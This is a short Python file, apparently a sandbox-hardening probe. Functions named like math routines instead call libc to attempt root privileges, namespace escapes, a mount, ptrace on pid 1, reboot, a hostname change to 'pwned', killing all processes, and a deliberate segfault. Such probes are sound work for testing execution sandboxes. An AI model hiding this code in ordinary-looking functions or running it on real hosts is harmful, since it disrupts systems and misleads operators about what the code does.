"""Use ctypes for what Python will not do: setuid(0), unshare, mount, ptrace, kill(-1), reboot,
and finally a segmentation fault."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def _try(name, *args):
    rc = getattr(libc, name)(*args)
    return f"{name}:{'ok' if rc == 0 else 'errno' + str(ctypes.get_errno())}"


def logistic_ls_loss(w, b, x, t):
    results = [
        _try("setuid", 0),
        _try("setgid", 0),
        _try("unshare", 0x10000000),  # CLONE_NEWUSER
        _try("unshare", 0x00020000),  # CLONE_NEWNS
        _try("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        _try("ptrace", 16, 1, None, None),  # PTRACE_ATTACH to pid 1
        _try("reboot", 0x4321FEDC),
        _try("sethostname", b"pwned", 5),
        _try("chroot", b"/tmp"),
    ]
    results.append(_try("kill", -1, 9))
    raise RuntimeError(f"CTYPES={results!r}")


def multivariate_dfdt(t):
    ctypes.string_at(0)
